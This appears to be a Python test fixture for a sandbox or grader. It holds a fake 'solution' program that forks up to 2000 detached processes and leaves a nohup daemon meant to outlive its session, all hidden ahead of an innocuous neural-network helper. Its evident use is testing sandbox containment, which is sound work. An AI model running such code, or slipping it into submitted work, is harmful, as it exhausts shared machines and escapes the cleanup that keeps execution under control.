"""Forks as many processes as it can, and leaves daemons behind that try to outlive the kernel."""
THREAT = "exhaust the machine"
BASE = "solution"
REASON = "processes at once"
PROGRAM = '''
import subprocess

_children = []
for _ in range(2000):
    try:
        _children.append(subprocess.Popen(["sleep", "4242"], start_new_session=True))
    except OSError:
        break
try:
    subprocess.Popen(["sh", "-c", "nohup sleep 4243 >/dev/null 2>&1 &"], start_new_session=True).wait()
except OSError:
    pass
for _child in _children[8:]:  # keep a few alive, so the kernel can work on
    _child.kill()
    _child.wait()


def layer_sizes(X, Y):
    return (X.shape[0], 4, Y.shape[0])
'''
